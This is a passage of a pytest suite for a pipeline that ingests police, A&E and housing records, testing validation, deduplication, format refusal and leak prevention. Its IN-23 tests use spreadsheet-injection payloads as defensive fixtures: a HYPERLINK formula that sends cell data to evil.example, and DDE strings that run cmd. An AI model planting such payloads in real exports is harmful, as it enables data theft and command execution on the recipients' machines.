        (POLICE, "DOB", "2024-02-30"),
        (POLICE, "DOB", "32/01/1980"),
        (POLICE, "DOB", "14/13/1980"),
        (POLICE, "Incident Date", "31/02/2024 10:30"),
        (POLICE, "Incident Date", "03/04/2024 25:10"),
        (AE, "PERSON_BIRTH_DATE", "2024-02-30"),
        (AE, "PERSON_BIRTH_DATE", "0000-00-00"),
        (AE, "PERSON_BIRTH_DATE", "2023-02-29"),
        (AE, "ARRIVAL_DATETIME", "2024-02-30T09:15:00"),
    ],
)
def test_in_11_impossible_dates_are_quarantined_as_invalid_date_with_the_column(
    home: Path, inbox: Path, feed: str, column: str, value: str
) -> None:
    rows = records(feed, 3)
    rows[1] = record(feed, 2, {column: value})
    report = load(home, feed, write(inbox, feed, rows))
    assert report.by_reason == {"invalid_date": 1}
    assert quarantined(home) == [(3, column, "invalid_date")]
    assert (report.read, report.loaded) == (3, 2)


def test_in_11_a_leap_day_in_a_leap_year_is_a_date(home: Path, inbox: Path) -> None:
    rows = [
        record(POLICE, 1, {"DOB": "29/02/2000"}),
        record(AE, 1, {"PERSON_BIRTH_DATE": "2000-02-29"}),
    ]
    assert load(home, POLICE, write(inbox, POLICE, rows[:1])).loaded == 1
    assert load(home, AE, write(inbox, AE, rows[1:])).loaded == 1
    assert query(home, "SELECT DISTINCT birth_date FROM identity_records") == [
        (dt.date(2000, 2, 29),)
    ]


# IN-12 ------------------------------------------------------------------------------------------


def test_in_12_ambiguous_dates_follow_the_contract_never_a_guess(home: Path, inbox: Path) -> None:
    police = [
        record(POLICE, 1, {"DOB": "01/02/2024"}),  # dd/mm/yyyy: 1 February
        record(POLICE, 2, {"DOB": "13/01/2024"}),
        record(POLICE, 3, {"DOB": "2024-02-01"}),  # ISO in a dd/mm/yyyy feed: not guessed
    ]
    ae = [
        record(AE, 1, {"PERSON_BIRTH_DATE": "2024-02-01"}),
        record(AE, 2, {"PERSON_BIRTH_DATE": "01/02/2024"}),  # dd/mm/yyyy in an ISO feed
    ]
    load(home, POLICE, write(inbox, POLICE, police))
    load(home, AE, write(inbox, AE, ae))
    assert query(home, "SELECT record_id, birth_date FROM identity_records ORDER BY record_id") == [
        ("LC-2024-0000001", dt.date(2024, 2, 1)),
        ("LC-2024-0000002", dt.date(2024, 1, 13)),
        ("RXN-A0000001", dt.date(2024, 2, 1)),
    ]
    assert query(home, "SELECT feed, line, column_name, reason FROM quarantine ORDER BY feed") == [
        (AE, 3, "PERSON_BIRTH_DATE", "invalid_date"),
        (POLICE, 4, "DOB", "invalid_date"),
    ]


# IN-13 ------------------------------------------------------------------------------------------


def test_in_13_an_excel_serial_in_a_text_feed_is_not_a_date(home: Path, inbox: Path) -> None:
    rows = [record(POLICE, 1, {"DOB": "45321"}), record(AE, 1, {"PERSON_BIRTH_DATE": "45321"})]
    load(home, POLICE, write(inbox, POLICE, rows[:1]))
    load(home, AE, write(inbox, AE, rows[1:]))
    assert query(home, "SELECT feed, line, column_name, reason FROM quarantine ORDER BY feed") == [
        (AE, 2, "PERSON_BIRTH_DATE", "invalid_date"),
        (POLICE, 2, "DOB", "invalid_date"),
    ]


@pytest.mark.parametrize(
    ("feed", "column", "value"),
    [
        (POLICE, "Incident Date", "01/02/24 10:30"),
        (POLICE, "DOB", "14/03/75"),
        (AE, "PERSON_BIRTH_DATE", "80-05-17"),
    ],
)
def test_in_13_two_digit_years_are_invalid_dates(
    home: Path, inbox: Path, feed: str, column: str, value: str
) -> None:
    rows = records(feed, 2)
    rows[0] = record(feed, 1, ({"DOB": ""} if feed == POLICE else {}) | {column: value})
    load(home, feed, write(inbox, feed, rows))
    assert quarantined(home) == [(2, column, "invalid_date")]


# IN-14 ------------------------------------------------------------------------------------------


def _uk(day: dt.date) -> str:
    return day.strftime("%d/%m/%Y")


def test_in_14_birth_dates_against_today_and_the_event(home: Path, inbox: Path) -> None:
    """The rules compare with DuckDB's current_date (not load_files' today=), so the boundary is
    the real today: a DOB of today loads, a DOB of tomorrow is in the future."""
    today = dt.date.today()
    tomorrow = today + dt.timedelta(days=1)
    rows = [
        record(POLICE, 1, {"DOB": _uk(today), "Incident Date": _uk(today) + " 00:00"}),  # loads
        record(POLICE, 2, {"DOB": _uk(tomorrow), "Incident Date": _uk(today) + " 09:00"}),
        record(POLICE, 3, {"DOB": "10/05/2020", "Incident Date": "03/04/2020 10:00"}),
        record(POLICE, 4, {"DOB": "01/01/1900", "Incident Date": "03/04/2024 10:00"}),
        record(POLICE, 5, {"DOB": "01/01/1903", "Incident Date": "31/12/2024 10:00"}),  # 121
        record(POLICE, 6, {"DOB": "02/01/1904", "Incident Date": "31/12/2024 10:00"}),  # 120
        record(POLICE, 7, {"Incident Date": _uk(tomorrow) + " 10:00"}),
        record(POLICE, 8, {"DOB": "03/04/2020", "Incident Date": "03/04/2020 10:00"}),  # born today
    ]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert quarantined(home) == [
        (3, "DOB", "birth_date_in_future"),
        (4, "DOB", "birth_date_after_event"),
        (5, "DOB", "implausible_age"),
        (6, "DOB", "implausible_age"),
        (8, "Incident Date", "date_in_future"),
    ]
    assert (report.read, report.loaded, report.quarantined) == (8, 3, 5)
    ages = query(
        home,
        "SELECT i.record_id, a.age_at_event FROM identity_records i "
        "JOIN analytic.feed_police_incidents a USING (record_key) ORDER BY i.record_id",
    )
    assert ages == [("LC-2024-0000001", 0), ("LC-2024-0000006", 120), ("LC-2024-0000008", 0)]


def test_in_14_a_person_aged_exactly_120_is_not_implausible(home: Path, inbox: Path) -> None:
    rows = [record(POLICE, 1, {"DOB": "31/12/1903", "Incident Date": "01/01/2024 10:00"})]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.loaded, report.quarantined) == (1, 0)


# IN-15 ------------------------------------------------------------------------------------------


def test_in_15_nhs_numbers_are_normalised_or_flagged_and_the_person_is_kept(
    home: Path, inbox: Path
) -> None:
    cases = {
        "9990000018": ("9990000018", True),
        "999 000 0018": ("9990000018", True),
        "999-000-0018": ("9990000018", True),
        "9990000019": ("9990000019", False),  # wrong check digit
        "999 000 0019": ("9990000019", False),  # spaced, wrong check digit
        "9990000000": ("9990000000", False),  # the check digit would be 10
        "999000001": ("999000001", False),  # nine digits
        "99900A0018": ("99900A0018", False),  # a letter
        "9.99E+09": ("9.99E+09", False),  # Excel's rendering of a long number
        "": (None, False),  # blank: no number, not counted as invalid
    }
    rows = [record(AE, i, {"NHS_NUMBER": given}) for i, given in enumerate(cases, start=1)]
    report = load(home, AE, write(inbox, AE, rows))
    assert (report.status, report.loaded, report.quarantined) == ("loaded", len(cases), 0)
    assert report.nhs_number_invalid == 6
    found = dict(
        (r, (n, v))
        for r, n, v in query(
            home, "SELECT record_id, nhs_number, nhs_number_valid FROM identity_records"
        )
    )
    for i, expected in enumerate(cases.values(), start=1):
        assert found[f"RXN-A{i:07d}"] == expected, i


# IN-16 ------------------------------------------------------------------------------------------


def test_in_16_exact_duplicate_rows_are_deduplicated_and_counted(home: Path, inbox: Path) -> None:
    rows = records(POLICE, 4)
    rows += [rows[1], rows[1], rows[3]]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.read, report.loaded, report.deduplicated, report.quarantined) == (7, 4, 3, 0)
    assert quarantined(home) == []
    assert query(
        home, "SELECT count(*), count(DISTINCT record_key) FROM analytic.feed_police_incidents"
    ) == [(4, 4)]


# IN-17 ------------------------------------------------------------------------------------------


def test_in_17_same_record_id_with_different_values_quarantines_both(
    home: Path, inbox: Path
) -> None:
    rows = records(POLICE, 4)
    rows.append(record(POLICE, 2, {"Summary": "Second version of the same incident"}))  # line 6
    rows.append(rows[1])  # line 7: an exact copy of line 3 (part of the same conflict)
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert quarantined(home) == [
        (3, "Incident Ref+Nominal ID", "conflicting_duplicate"),
        (6, "Incident Ref+Nominal ID", "conflicting_duplicate"),
        (7, "Incident Ref+Nominal ID", "conflicting_duplicate"),
    ]
    assert query(home, "SELECT DISTINCT record_id FROM quarantine") == [("LC-2024-0000002",)]
    assert (report.read, report.loaded, report.quarantined, report.deduplicated) == (6, 3, 3, 0)
    assert report.by_reason == {"conflicting_duplicate": 3}


def test_in_17_last_wins_keeps_the_later_row_and_counts_the_earlier(
    home: Path, inbox: Path
) -> None:
    last_wins = dataclasses.replace(contract(AE), on_conflicting_duplicate="last_wins")
    rows = records(AE, 3)
    rows.insert(1, record(AE, 2, {"CHIEF_COMPLAINT": "Earlier version"}))
    report = load(home, AE, write(inbox, AE, rows), last_wins)
    assert (
        query(home, "SELECT chief_complaint FROM analytic.feed_ae_attendances ORDER BY ALL")
        == [("Chest pain",)] * 3
    )
    assert (report.read, report.loaded, report.deduplicated, report.quarantined) == (4, 3, 1, 0)


def test_in_17_two_nominals_of_one_incident_are_two_records(home: Path, inbox: Path) -> None:
    rows = [
        record(POLICE, 1, {"Role": "VICTIM"}),
        record(POLICE, 1, {"Role": "OFFENDER", "Nominal ID": "N00000099", "Surname": "BRIGGS"}),
    ]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.loaded, report.quarantined) == (2, 0)


# IN-18 ------------------------------------------------------------------------------------------


def test_in_18_the_identical_file_delivered_twice_is_a_no_op(home: Path, inbox: Path) -> None:
    rows = [*records(POLICE, 3), record(POLICE, 4, {"DOB": "31/02/2024"})]
    path = write(inbox, POLICE, rows)
    first = load(home, POLICE, path)
    assert (first.status, first.loaded, first.quarantined) == ("loaded", 3, 1)
    before, version = stored(home), current(home)
    again = load(home, POLICE, path)
    renamed = inbox / "police_incidents_resent.csv"
    renamed.write_bytes(path.read_bytes())
    third = load(home, POLICE, renamed)
    for report in (again, third):
        assert report.status == "already_loaded"
        assert report.already_loaded_as == first.delivery_id
        assert str(first.delivery_id) in report.message
        assert (report.read, report.loaded, report.quarantined) == (0, 0, 0)
    assert stored(home) == before
    assert current(home) == version


def test_in_18_the_same_file_twice_in_one_load_is_loaded_once(home: Path, inbox: Path) -> None:
    path = write(inbox, POLICE, records(POLICE, 3))
    first, second = load_files(home, [Delivery(path, contract(POLICE))] * 2)
    assert (first.status, second.status) == ("loaded", "already_loaded")
    assert second.already_loaded_as == first.delivery_id
    assert query(home, "SELECT count(*) FROM identity_records") == [(3,)]


# IN-19 ------------------------------------------------------------------------------------------


def test_in_19_a_corrected_resend_supersedes_without_double_counting(
    home: Path, inbox: Path
) -> None:
    rows = records(POLICE, 5)
    first = load(home, POLICE, write(inbox / "1", POLICE, rows))
    corrected = [*rows, record(POLICE, 6)]
    corrected[2] = record(POLICE, 3, {"Incident Type": "DOMESTIC", "Summary": "Corrected"})
    second = load(home, POLICE, write(inbox / "2", POLICE, corrected))
    assert (second.status, second.new, second.superseded, second.unchanged) == ("loaded", 1, 1, 4)
    assert (second.read, second.loaded) == (6, 6)
    for table in ("identity_records", "analytic.feed_police_incidents"):
        assert query(home, f"SELECT count(*), count(DISTINCT record_key) FROM {table}") == [(6, 6)]
    assert query(
        home,
        "SELECT i.delivery_id, a.incident_type, a.summary FROM identity_records i "
        "JOIN analytic.feed_police_incidents a USING (record_key) WHERE i.record_id = 'LC-2024-0000003'",
    ) == [(second.delivery_id, "domestic incident", "Corrected")]
    assert query(
        home, "SELECT delivery_id, count(*) FROM identity_records GROUP BY 1 ORDER BY 1"
    ) == [
        (first.delivery_id, 4),
        (second.delivery_id, 2),
    ]


# IN-21 ------------------------------------------------------------------------------------------


def test_in_21_unknown_codes_are_quarantined_and_mixed_case_codes_accepted(
    home: Path, inbox: Path
) -> None:
    rows = [
        record(POLICE, 1, {"Incident Type": "asb", "Gender": "female", "Role": "Victim"}),
        record(POLICE, 2, {"Incident Type": "BURGLARY"}),
        record(POLICE, 3, {"Incident Type": "Domestic", "Gender": "MALE"}),
        record(POLICE, 4, {"Role": "BYSTANDER"}),
    ]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert quarantined(home) == [(3, "Incident Type", "unknown_code"), (5, "Role", "unknown_code")]
    assert report.by_reason == {"unknown_code": 2}
    assert query(
        home,
        "SELECT i.record_id, i.sex, a.incident_type, a.role FROM identity_records i "
        "JOIN analytic.feed_police_incidents a USING (record_key) ORDER BY 1",
    ) == [
        ("LC-2024-0000001", "F", "anti-social behaviour", "VICTIM"),
        ("LC-2024-0000003", "M", "domestic incident", "VICTIM"),
    ]


# IN-22 ------------------------------------------------------------------------------------------


def test_in_22_postcodes_are_normalised_and_invalid_ones_flagged_not_dropped(
    home: Path, inbox: Path
) -> None:
    cases = {
        "pr71ab": ("PR7 1AB", True),
        " pr7  1ab ": ("PR7 1AB", True),
        "PR7 1AB": ("PR7 1AB", True),
        "la11aa": ("LA1 1AA", True),  # outside the borough: kept
        "PR7 OAB": ("PR7 OAB", False),  # letter O for zero: flagged, not guessed
        "pr7 1a": ("PR7 1A", False),
        "NFA": ("NFA", False),
        "": (None, None),
    }
    rows = [record(POLICE, i, {"Postcode": given}) for i, given in enumerate(cases, start=1)]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.loaded, report.quarantined, report.postcode_invalid) == (len(cases), 0, 3)
    found = {
        r: (p, v)
        for r, p, v in query(
            home, "SELECT record_id, postcode, postcode_valid FROM identity_records"
        )
    }
    for i, expected in enumerate(cases.values(), start=1):
        assert found[f"LC-2024-{i:07d}"] == expected, i


# IN-23 ------------------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+44 1257 515151",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]


def _read_back(path: Path) -> list[list[object]]:
    if path.suffix == ".xlsx":
        sheet = openpyxl.load_workbook(path).worksheets[0]
        for row in sheet.iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)
        # xlsxwriter escapes a carriage return as _x000D_, which Excel (not openpyxl) decodes.
        return [
            [v.replace("_x000D_", "\r") if isinstance(v, str) else v for v in r]
            for r in sheet.iter_rows(min_row=2, values_only=True)
        ]
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_in_23_formula_text_is_stored_verbatim_and_neutralised_on_export(
    home: Path, inbox: Path, tmp_path: Path, suffix: str
) -> None:
    texts = [*FORMULAS, "-12.5"]
    rows = [record(POLICE, i, {"Summary": t}) for i, t in enumerate(texts, start=1)]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.loaded, report.quarantined) == (len(texts), 0)
    stored_texts = [
        s
        for (s,) in query(
            home, "SELECT summary FROM analytic.feed_police_incidents ORDER BY record_key"
        )
    ]
    assert sorted(stored_texts) == sorted(texts)  # verbatim in the analytic zone
    out = tmp_path / f"summaries{suffix}"
    (write_xlsx if suffix == ".xlsx" else write_csv)(
        out, ["summary", "number"], [[t, -12.5] for t in stored_texts]
    )
    exported = _read_back(out)
    for text, (cell, number) in zip(stored_texts, exported, strict=True):
        assert cell == ("-12.5" if text == "-12.5" else "'" + text)
        assert str(number) == "-12.5"


def test_in_23_neutralise_leaves_numbers_alone() -> None:
    for value in ("-12.5", "+3", "-0.5e3", ".5", -12.5, 7, None):
        assert neutralise(value) == value
    for value in FORMULAS:
        assert neutralise(value) == "'" + value


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_in_23_quarantine_export_neutralises_what_partners_sent(
    home: Path, inbox: Path, tmp_path: Path, suffix: str
) -> None:
    """A rule failure keeps the record id ('@SUM(1+1)'); a row the exact reader rejects for a
    NUL byte keeps its raw text, which starts with the id ('=1+2|...'). Both are neutralised."""
    rows = records(AE, 3)
    rows[0] = record(AE, 1, {"ATTENDANCE_ID": "@SUM(1+1)", "PERSON_BIRTH_DATE": "2024-02-30"})
    rows[1] = record(AE, 2, {"ATTENDANCE_ID": "=1+2", "CHIEF_COMPLAINT": "Fall\x00"})
    load(home, AE, write(inbox, AE, with_reader(AE, rows, "exact")))
    out = tmp_path / f"quarantine{suffix}"
    assert quarantine.export(home, quarantine.Filters(feed=AE), out) == 2
    exported = _read_back(out)
    columns = (*quarantine.COLUMNS, "problems", "raw")
    assert exported[0][columns.index("record_id")] == "'@SUM(1+1)"
    assert str(exported[1][columns.index("raw")]).startswith("'=1+2|")
    for row in exported:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), row


# IN-24 ------------------------------------------------------------------------------------------


def test_in_24_free_text_with_an_nhs_number_or_email_is_flagged_for_review(
    home: Path, inbox: Path
) -> None:
    texts = [
        "Mother gave NHS number 943 476 5919 at the scene",
        "Neighbour's email is jo.bloggs@example.org",
        "Called 9434765919 back",
        "Seen at 10:30 on 03/04, no further action",
        "Ref 12345",
    ]
    rows = [record(POLICE, i, {"Summary": t}) for i, t in enumerate(texts, start=1)]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.loaded, report.free_text_to_review) == (5, 3)
    flagged = query(
        home,
        "SELECT record_id FROM identity_records WHERE free_text_to_review ORDER BY record_id",
    )
    assert flagged == [("LC-2024-0000001",), ("LC-2024-0000002",), ("LC-2024-0000003",)]
    ae = [record(AE, 1, {"CHIEF_COMPLAINT": "Contact me on sam@example.com"}), record(AE, 2)]
    assert load(home, AE, write(inbox, AE, ae)).free_text_to_review == 1


# IN-25 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("feed", "content"),
    [
        (POLICE, b""),
        (POLICE, b"\r\n\r\n"),
        (POLICE, text_of(POLICE, []).encode("cp1252")),
        (POLICE, text_of(POLICE, ["", ""]).encode("cp1252")),
        (AE, b"\xef\xbb\xbf"),
        (AE, b"\xef\xbb\xbf" + text_of(AE, []).encode()),
        (AE, line(header(AE)).encode()),  # header only, no final newline
    ],
    ids=[
        "empty",
        "blank lines",
        "header only",
        "header and blank lines",
        "BOM only",
        "BOM and header",
        "header unterminated",
    ],
)
def test_in_25_an_empty_delivery_is_refused(
    home: Path, inbox: Path, feed: str, content: bytes
) -> None:
    inbox.mkdir()
    path = inbox / FILE_NAMES[feed]
    path.write_bytes(content)
    report = load(home, feed, path)
    assert (report.status, report.refusal_reason) == ("refused", "empty_delivery")
    assert "empty" in report.message
    assert count(home, "deliveries") == 0


def _workbook(path: Path, rows: list[list[object]], head: list[str] | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    workbook = xlsxwriter.Workbook(str(path))
    dates = workbook.add_format({"num_format": "dd/mm/yyyy"})
    sheet = workbook.add_worksheet("Applications")
    sheet.write_row(0, 0, head or header(HOUSING))
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values):
            if isinstance(value, dt.date):
                sheet.write_datetime(r, c, dt.datetime.combine(value, dt.time()), dates)
            elif value not in ("", None):
                sheet.write(r, c, value)
    workbook.close()
    return path


def test_in_25_a_workbook_with_a_header_only_is_refused(home: Path, inbox: Path) -> None:
    report = load(home, HOUSING, _workbook(inbox / FILE_NAMES[HOUSING], []))
    assert (report.status, report.refusal_reason) == ("refused", "empty_delivery")


# IN-26 ------------------------------------------------------------------------------------------


def _xlsx_bytes(tmp_path: Path) -> bytes:
    return _workbook(tmp_path / "real.xlsx", [record(HOUSING, 1)]).read_bytes()


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("police_incidents.csv", text_of(POLICE, records(POLICE, 2)))
    return buffer.getvalue()


@pytest.mark.parametrize(
    "kind", ["xlsx renamed", "html", "html after bom and spaces", "zip", "gzip", "pdf"]
)
def test_in_26_a_csv_that_is_not_delimited_text_is_refused_by_its_magic_bytes(
    home: Path, inbox: Path, tmp_path: Path, kind: str
) -> None:
    content = {
        "xlsx renamed": lambda: _xlsx_bytes(tmp_path),
        "html": lambda: b"<!DOCTYPE html>\n<html><body>Session expired</body></html>\n",
        "html after bom and spaces": lambda: b"\xef\xbb\xbf \r\n<HTML><head></head></HTML>",
        "zip": _zip_bytes,
        "gzip": lambda: gzip.compress(text_of(POLICE, records(POLICE, 2)).encode("cp1252")),
        "pdf": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    }[kind]()
    inbox.mkdir()
    path = inbox / FILE_NAMES[POLICE]
    path.write_bytes(content)
    report = load(home, POLICE, path)
    assert (report.status, report.refusal_reason) == ("refused", "wrong_format")
    assert count(home, "identity_records") == 0


@pytest.mark.parametrize("kind", ["csv", "zip that is not a workbook"])
def test_in_26_a_workbook_feed_refuses_what_is_not_a_workbook(
    home: Path, inbox: Path, kind: str
) -> None:
    inbox.mkdir()
    path = inbox / FILE_NAMES[HOUSING]
    path.write_bytes(
        text_of(POLICE, records(POLICE, 2)).encode() if kind == "csv" else _zip_bytes()
    )
    report = load(home, HOUSING, path)
    assert (report.status, report.refusal_reason) == ("refused", "wrong_format")


# IN-30 ------------------------------------------------------------------------------------------


def test_in_30_workbook_sheets_hidden_rows_formulas_and_dates(home: Path, inbox: Path) -> None:
    path = inbox / FILE_NAMES[HOUSING]
    inbox.mkdir()
    workbook = xlsxwriter.Workbook(str(path))
    dates = workbook.add_format({"num_format": "dd/mm/yyyy"})
    notes = workbook.add_worksheet("Notes")  # first sheet: not the contracted one
    notes.write_row(0, 0, header(HOUSING))
    notes.write_row(1, 0, ["HC-NOTES", "NOTESHEET", "Only", "01/01/1990"])
    sheet = workbook.add_worksheet("Applications")
    sheet.write_row(0, 0, header(HOUSING))

    def put(r: int, values: list[object]) -> None:
        for c, value in enumerate(values):
            if isinstance(value, dt.date):
                sheet.write_datetime(r, c, dt.datetime.combine(value, dt.time()), dates)
            elif value != "":
                sheet.write(r, c, value)

    put(1, record(HOUSING, 1))  # dates as date cells
    put(2, record(HOUSING, 2, {"DOB": "14/03/1975", "Application Date": "04/03/2024"}))  # as text
    put(3, record(HOUSING, 3))
    sheet.set_row(3, None, None, {"hidden": True})  # a hidden row: loaded and counted
    put(4, record(HOUSING, 4))
    sheet.write_formula(4, 0, '="HC-"&TEXT(4,"00000")', None, "HC-00004")  # cached value
    sheet.write_formula(4, 1, '=UPPER("jones")', None, "JONES")
    put(5, record(HOUSING, 5, {"DOB": "1975-03-14"}))  # ISO text in a dd/mm/yyyy column
    put(6, record(HOUSING, 6, {"Case Ref": 12345}))  # a number where text is expected
    workbook.add_worksheet("Lookups").write_column(0, 0, ["Relief", "Prevention"])
    workbook.close()

    report = load(home, HOUSING, path)
    assert (report.status, report.read, report.loaded, report.quarantined) == ("loaded", 6, 5, 1)
    assert quarantined(home) == [(6, "DOB", "invalid_date")]
    found = query(
        home,
        "SELECT record_id, family_name, birth_date, event_date FROM identity_records ORDER BY 1",
    )
    day, applied = dt.date(1975, 3, 14), dt.date(2024, 3, 4)
    assert found == [
        ("12345", "Jones", day, applied),
        ("HC-00001", "Jones", day, applied),
        ("HC-00002", "Jones", day, applied),
        ("HC-00003", "Jones", day, applied),
        ("HC-00004", "JONES", day, applied),
    ]
    assert query(home, "SELECT count(*) FROM quarantine WHERE raw LIKE '%NOTESHEET%'") == [(0,)]


def test_in_30_an_empty_sheet_row_is_not_a_record(home: Path, inbox: Path) -> None:
    rows = records(HOUSING, 3)
    path = _workbook(inbox / FILE_NAMES[HOUSING], [rows[0], ["", ""], rows[1], rows[2]])
    report = load(home, HOUSING, path)
    assert (report.read, report.loaded, report.quarantined) == (3, 3, 0)


def test_in_30_a_workbook_without_the_contracted_sheet_is_refused(home: Path, inbox: Path) -> None:
    inbox.mkdir()
    path = inbox / FILE_NAMES[HOUSING]
    workbook = xlsxwriter.Workbook(str(path))
    workbook.add_worksheet("Sheet1").write_row(0, 0, header(HOUSING))
    workbook.close()
    report = load(home, HOUSING, path)
    assert (report.status, report.refusal_reason) == ("refused", "missing_sheet")


# IN-32 ------------------------------------------------------------------------------------------

MUTATIONS = (
    "good",
    "good",
    "multi_line",
    "blank_line",
    "exact_duplicate",
    "conflict",
    "invalid_date",
    "unknown_code",
    "missing_required",
    "future_birth",
    "too_many_fields",
    "too_few_fields",
    "nul_byte",
)


def _mixed_file(
    choices: list[str],
) -> tuple[str, list[int], dict[str, list[tuple[int, tuple[object, ...]]]]]:
    """The file's text, the lines of bad records, and the good records' (line, values) by id.
    Bad records have ids of their own; a duplicate or a conflict reuses a good record's id."""
    body: list[str] = []
    bad: list[int] = []
    good: dict[str, list[tuple[int, tuple[object, ...]]]] = {}
    next_line = 2
    for n, choice in enumerate(choices, start=1):
        values = record(POLICE, n)
        if choice in ("exact_duplicate", "conflict") and good:
            rid = sorted(good)[n % len(good)]
            values = list(good[rid][0][1])
            if choice == "conflict":
                values[-1] = f"Changed in row {n}"  # the Summary
        elif choice == "multi_line":
            values = multi_line(POLICE, n)
        changes = {
            "invalid_date": {"DOB": "31/02/2024"},
            "unknown_code": {"Incident Type": "BURGLARY"},
            "missing_required": {"Nominal ID": ""},
            "future_birth": {"DOB": _uk(dt.date.today() + dt.timedelta(days=400))},
            "nul_byte": {"Address": "1\x00 Mill Lane"},
        }.get(choice)
        if changes:
            values = record(POLICE, n, changes)
        text = {
            "too_many_fields": line([*values, "x"]),
            "too_few_fields": line(values[:-1]),
            "blank_line": "",
        }.get(choice, line(values))
        body.append(text)
        if choice == "blank_line":
            next_line += 1
            continue
        if changes or choice in ("too_many_fields", "too_few_fields"):
            bad.append(next_line)
        else:
            good.setdefault(str(values[0]), []).append((next_line, tuple(values)))
        next_line += text.count("\r\n") + 1
    return text_of(POLICE, body), bad, good


@settings(
    max_examples=25, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(st.lists(st.sampled_from(MUTATIONS), min_size=1, max_size=12))
def test_in_32_random_mixes_of_good_and_bad_rows_always_reconcile(choices: list[str]) -> None:
    text, bad, good = _mixed_file(choices)
    conflicting = [ln for rows in good.values() if len({t for _, t in rows}) > 1 for ln, _ in rows]
    kept = [rows for rows in good.values() if len({t for _, t in rows}) == 1]
    with tempfile.TemporaryDirectory() as folder:
        home, path = Path(folder) / "hub", Path(folder) / FILE_NAMES[POLICE]
        path.write_bytes(encode(POLICE, text))
        report = load_files(home, [Delivery(path, contract(POLICE))])[0]
        records_in = len(bad) + sum(len(rows) for rows in good.values())
        if records_in == 0:
            assert (report.status, report.refusal_reason) == ("refused", "empty_delivery")
            return
        assert report.status == "loaded", report.message
        assert report.reconciles
        assert report.read == records_in
        assert report.read == report.loaded + report.quarantined + report.deduplicated
        lines = [ln for ln, _, _ in quarantined(home)]
        assert lines == sorted(bad + conflicting)  # every bad line, each exactly once
        assert report.loaded == len(kept)
        assert report.deduplicated == sum(len(rows) - 1 for rows in kept)
        assert query(home, "SELECT count(*) FROM identity_records") == [(len(kept),)]
        assert query(home, "SELECT count(*) FROM analytic.feed_police_incidents") == [(len(kept),)]


# IN-33 ------------------------------------------------------------------------------------------

CANARY = ("Zzyzx", "9990000018", "PR7 9ZZ", "Canary")


def _canary_file(inbox: Path, kind: str) -> Path:
    canary = {
        "PERSON_GIVEN_NAME": "Canary",
        "PERSON_FAMILY_NAME": "Zzyzx",
        "NHS_NUMBER": "9990000018",
        "POSTCODE": "PR7 9ZZ",
    }
    rows: list = records(AE, 3)
    if kind == "invalid date":
        rows.insert(1, record(AE, 50, canary | {"PERSON_BIRTH_DATE": "2024-02-30"}))
    elif kind == "too many fields":
        rows.insert(1, line([*record(AE, 50, canary), "extra"]))
    elif kind == "undecodable byte":
        rows.insert(1, record(AE, 50, canary | {"CHIEF_COMPLAINT": "Fall\udcff"}))
    elif kind == "conflicting duplicate":
        rows += [record(AE, 2, canary)]
    elif kind == "no header":
        return write(inbox, AE, rows, head=line(record(AE, 50, canary)))
    elif kind == "nul byte":
        rows.insert(1, record(AE, 50, canary | {"CHIEF_COMPLAINT": "Fall\x00"}))
    return write(inbox, AE, rows)


@pytest.mark.parametrize(
    "kind",
    [
        "invalid date",
        "too many fields",
        "undecodable byte",
        "conflicting duplicate",
        "nul byte",
        "no header",
    ],
)
@pytest.mark.parametrize("as_json", [False, True], ids=["table", "json"])
def test_in_33_a_canary_resident_leaks_into_no_output_message_or_file(
    tmp_path: Path, inbox: Path, kind: str, as_json: bool
) -> None:
    home = tmp_path / "hub"
    path = _canary_file(inbox, kind)
    runner = CliRunner()
    arguments = ["load", "--feed", AE, str(path), "--home", str(home)]
    result = runner.invoke(app, [*arguments, "--json"] if as_json else arguments)
    outputs = [result.output, str(result.exception or ""), repr(result.exception)]
    for stream in ("stdout", "stderr"):
        with contextlib.suppress(ValueError):  # a runner that mixes the streams
            outputs.append(getattr(result, stream))
    if result.exc_info is not None:
        outputs.append("".join(traceback.format_exception(*result.exc_info)))
    assert isinstance(result.exception, SystemExit | None), outputs
    assert result.exit_code == (1 if kind == "no header" else 0), outputs
    assert AE in result.output  # the run did report (so the checks below are not vacuous)
    if as_json:
        delivery = json.loads(result.stdout)["deliveries"][0]
        outputs.append(delivery["message"])
        if kind == "no header":
            assert delivery["status"] == "refused"
        elif delivery["status"] == "loaded":  # (a file may one day be refused whole instead)
            assert delivery["quarantined"] >= 1 and delivery["reconciles"]
    listing = runner.invoke(app, ["quarantine", "list", "--home", str(home)])
    outputs.append(listing.output)
    # Files outside the identity zone: the agreements register, notices to the IG lead, logs.
    for file in home.rglob("*"):
        if file.is_file() and "zones" not in file.parts and "secrets" not in file.parts:
            outputs.append(file.read_bytes().decode("utf-8", errors="replace"))
    for text in outputs:
        assert_no_leak(text, *CANARY)


def test_in_33_the_canary_is_in_the_quarantine_and_nowhere_in_the_analytic_zone(
    home: Path, inbox: Path
) -> None:
    report = load(home, AE, _canary_file(inbox, "invalid date"))
    assert_no_leak(report.message, *CANARY)
